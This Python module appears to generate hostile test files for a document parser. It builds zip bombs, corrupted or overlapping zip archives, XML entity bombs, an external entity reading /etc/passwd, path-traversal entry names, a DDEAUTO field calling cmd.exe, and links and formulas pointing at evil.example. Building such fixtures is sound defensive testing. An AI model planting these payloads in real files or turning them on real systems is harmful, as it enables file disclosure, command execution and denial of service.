"""Word, Excel and zip files: containers that lie or burst, XML that reaches out, cells that mislead."""

from __future__ import annotations

import struct
import zipfile

from hostile.parts import (
    XML,
    book,
    numbers,
    relations,
    sheet,
    sheet_cell,
    sheet_rows,
    word,
    word_body,
    word_cell,
    zipped,
)

_ZEROS = bytes(60_000_000)
_BOMB = "<!DOCTYPE d [" + "".join(
    f'<!ENTITY e{k} "{f"&e{k - 1};" * 10 if k else "9"}">' for k in range(12)
)  # 10 ** 11 nines
_OUTSIDE_ENTITY = '<!DOCTYPE d [<!ENTITY e0 SYSTEM "file:///etc/passwd">'


def _with_entities(document: str, declared: str, entity: str) -> str:
    return f"{declared}]>" + document.replace("本年度", f"&{entity};本年度", 1)


def _patched(data: bytes, offset_in_entry: int, value: bytes, local: int | None = None) -> bytes:
    """The last entry of the directory, and where `local` says so its own header, with other bytes at an offset."""
    at = data.rindex(b"PK\x01\x02") + offset_in_entry
    made = data[:at] + value + data[at + len(value) :]
    if local is not None:
        start = struct.unpack_from("<I", data, data.rindex(b"PK\x01\x02") + 42)[0] + local
        made = made[:start] + value + made[start + len(value) :]
    return made


def _containers() -> dict[str, bytes]:
    honest = zipped(word(word_body()))
    bomb = zipped(word(word_body(), {"word/media/a.bin": _ZEROS}))
    first = honest.index(b"PK\x01\x02")
    entry = honest[first : honest.index(b"PK\x01\x02", first + 4)]
    end = honest.rindex(b"PK\x05\x06")
    size, offset = struct.unpack_from("<II", honest, end + 12)
    overlap = (
        honest[:end]
        + entry * 50
        + honest[end : end + 8]
        + struct.pack("<HHIIH", 54, 54, size + 50 * len(entry), offset, 0)
    )
    return {
        "bomb.docx": bomb,
        "bomb-as-document.docx": zipped(word(b"<w:document>" + _ZEROS)),
        "lying-size.docx": _patched(zipped(word(b"<w:document>" + _ZEROS)), 24, struct.pack("<I", 1000), 22),
        "lying-checksum.docx": _patched(honest, 16, b"\0\0\0\0", 14),
        "locked.docx": _patched(honest, 8, b"\x01\0", 6),
        "overlapping.docx": overlap,
        "zip-in-zip.docx": zipped({"a.zip": zipped({"b.zip": bomb}, zipfile.ZIP_STORED)}, zipfile.ZIP_STORED),
        "ten-thousand-entries.docx": zipped(word(word_body(), {f"x/{k}": b"" for k in range(10_000)})),
        "leads-out.docx": zipped(word(word_body(), {"../../evil.txt": "x"})),
        "leads-to-the-root.docx": zipped(word(word_body(), {"/etc/evil": "x", "C:\\evil": "x"})),
        "cut-off.docx": honest[: len(honest) * 2 // 3],
        "no-directory.docx": honest[:first],
        "bzip2.docx": zipped(word(word_body()), zipfile.ZIP_BZIP2),
        "lzma.docx": zipped(word(word_body()), zipfile.ZIP_LZMA),
        "archive.zip": zipped({"年报.txt": "x", "附件.txt": "y"}),
        "empty.zip": zipped({}),
        "only-magic.docx": b"PK\x03\x04" + bytes(40),
        "prefixed.docx": b"#!/bin/sh\nexit 1\n" + honest,
        "twice.docx": honest + honest,
        "presentation.pptx": zipped({"ppt/presentation.xml": "<p/>"}),
        "no-document.docx": zipped({k: v for k, v in word("").items() if k != "word/document.xml"}),
        "empty-document.docx": zipped(word("")),
        "locked-office.docx": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
        + bytes(504)
        + "EncryptedPackage".encode("utf-16-le")
        + bytes(500),
        "old-office.doc": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(1000),
    }


def _words() -> dict[str, str]:
    """Documents as XML; all but the spoilt ones are honest reports with something hostile in them."""
    honest = word_body()
    deleted = '</w:t></w:r><w:del w:id="1" w:author="a"><w:r><w:delText>1</w:delText></w:r></w:del><w:r><w:t>'
    field = (
        '</w:t></w:r><w:r><w:instrText>DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "99"</w:instrText></w:r><w:r><w:t>'
    )
    note = '<w:r><w:rPr><w:vertAlign w:val="superscript"/></w:rPr><w:t>2</w:t></w:r>'
    return {
        "entity-bomb.docx": _with_entities(honest, _BOMB, "e11"),
        "external-entity.docx": _with_entities(honest, _OUTSIDE_ENTITY, "e0"),
        "deep.docx": word_body(before="<w:sdt><w:sdtContent>" * 20_000 + "</w:sdtContent></w:sdt>" * 20_000),
        "deep-tables.docx": word_body(before="<w:tbl><w:tr><w:tc>" * 200 + "<w:p/>" + "</w:tc></w:tr></w:tbl>" * 200),
        "cut-off-xml.docx": honest[: len(honest) * 2 // 3],
        "wide-span.docx": word_body(
            after=f"<w:tbl><w:tr>{word_cell('1', 2_000_000_000)}{word_cell('2')}</w:tr></w:tbl>"
        ),
        "odd-span.docx": word_body(
            after='<w:tbl><w:tr><w:tc><w:tcPr><w:gridSpan w:val="-5"/></w:tcPr><w:p/></w:tc></w:tr></w:tbl>'
        ),
        "merge-without-begin.docx": word_body(after=f"<w:tbl><w:tr>{word_cell('1', 1, '<w:vMerge/>')}</w:tr></w:tbl>"),
        "many-rows.docx": word_body(after="<w:tbl>" + f"<w:tr>{word_cell('1') * 10}</w:tr>" * 5_000 + "</w:tbl>"),
        "two-paragraphs.docx": word_body(numbers("1</w:t></w:r></w:p><w:p><w:r><w:t>2")),
        "deleted-digit.docx": word_body(numbers(f"{deleted}7")),
        "field.docx": word_body(numbers(f"{field}7")),
        "footnote-digit.docx": word_body(numbers(f"1</w:t></w:r>{note}<w:r><w:t>")),
        "hidden-digit.docx": word_body(
            numbers("</w:t></w:r><w:r><w:rPr><w:vanish/></w:rPr><w:t>1</w:t></w:r><w:r><w:t>7")
        ),
        "foreign-xml.docx": "<html><body>1</body></html>",
        "wrong-xml-encoding.docx": '<?xml version="1.0" encoding="utf-16"?>' + honest,
    }


def _outside() -> dict[str, bytes]:
    picture = "http://evil.example/a.png"
    outward = relations(
        ("image", picture, "External"),
        ("attachedTemplate", "file:///etc/passwd", "External"),
        ("oleObject", "http://evil.example/a.doc", "External"),
        ("image", "../../../../etc/passwd", "Internal"),
    )
    chunk = word_body(after='<w:altChunk r:id="rId4"/><w:subDoc r:id="rId2"/>')
    main = {"_rels/.rels": relations(("officeDocument", "http://evil.example/document.xml", "External"))}
    return {
        "outside.docx": zipped(word(chunk, {"word/_rels/document.xml.rels": outward})),
        "outside-document.docx": zipped(word(word_body(), main)),
        "macros.docx": zipped(word(word_body(), {"word/vbaProject.bin": b"\xd0\xcf\x11\xe0" + bytes(99)})),
    }


def _books() -> dict[str, bytes]:
    rows, merged = sheet_rows()
    far = f'<row r="1048576">{sheet_cell("XFD1048576", "99")}</row>'
    link = '<c r="A8" t="str"><f>HYPERLINK("http://evil.example","7")</f><v>7</v></c>'
    stale = '<c r="A8"><f>WEBSERVICE("http://evil.example")</f></c>'
    seven = sheet_cell("A8", "7")
    shared = '<c r="A8" t="s"><v>999999999</v></c>'
    made = {
        "far-cell.xlsx": sheet(rows + far, merged, "A1:XFD1048576"),
        "beyond-the-sheet.xlsx": sheet(
            rows + '<row r="99999999">' + sheet_cell("ZZZZ99999999", "9") + "</row>", merged
        ),
        "lying-dimension.xlsx": sheet(rows, merged, "A1:XFD1048576"),
        "whole-sheet-merged.xlsx": sheet(rows, merged + '<mergeCell ref="A1:XFD1048576"/>'),
        "many-merges.xlsx": sheet(
            rows, merged + "".join(f'<mergeCell ref="B{k}:D{k + 1}"/>' for k in range(20, 60_000))
        ),
        "odd-merge.xlsx": sheet(rows, merged + '<mergeCell ref="ZZ"/><mergeCell ref="C9:A1"/>'),
        "many-rows.xlsx": sheet(
            rows + "".join(f'<row r="{r}">{sheet_cell(f"A{r}", "1")}</row>' for r in range(20, 60_020))
        ),
        "formula-with-value.xlsx": sheet(rows.replace(seven, link), merged),
        "formula-without-value.xlsx": sheet(rows.replace(seven, stale), merged),
        "no-such-string.xlsx": sheet(rows.replace(seven, shared), merged),
        "number-of-python.xlsx": sheet(rows.replace(seven, '<c r="A8"><v>1_000</v></c>'), merged),
        "nan.xlsx": sheet(rows.replace(seven, '<c r="A8"><v>NaN</v></c>'), merged),
        "huge-number.xlsx": sheet(rows.replace(seven, '<c r="A8"><v>1E999</v></c>'), merged),
        "error-value.xlsx": sheet(rows.replace(seven, '<c r="A8" t="e"><v>#REF!</v></c>'), merged),
        "same-cell-twice.xlsx": sheet(rows.replace(seven, seven + sheet_cell("A8", "12")), merged),
        "entity-bomb.xlsx": XML + _BOMB + "]>" + sheet(rows.replace("本年度", "&e11;本年度"), merged).removeprefix(XML),
        "cut-off-xml.xlsx": sheet(rows, merged)[:900],
        "empty-sheet.xlsx": sheet(""),
    }
    outward = relations(("worksheet", "file:///etc/passwd", "External"))
    return {name: zipped(book(xml)) for name, xml in made.items()} | {
        "outside-sheet.xlsx": zipped(book(sheet(rows, merged), {"xl/_rels/workbook.xml.rels": outward})),
        "many-strings.xlsx": zipped(
            book(
                sheet(rows, merged), {"xl/sharedStrings.xml": f"{XML}<sst>" + "<si><t>9</t></si>" * 300_000 + "</sst>"}
            )
        ),
    }


def files() -> dict[str, bytes]:
    return _containers() | {name: zipped(word(xml)) for name, xml in _words().items()} | _outside() | _books()
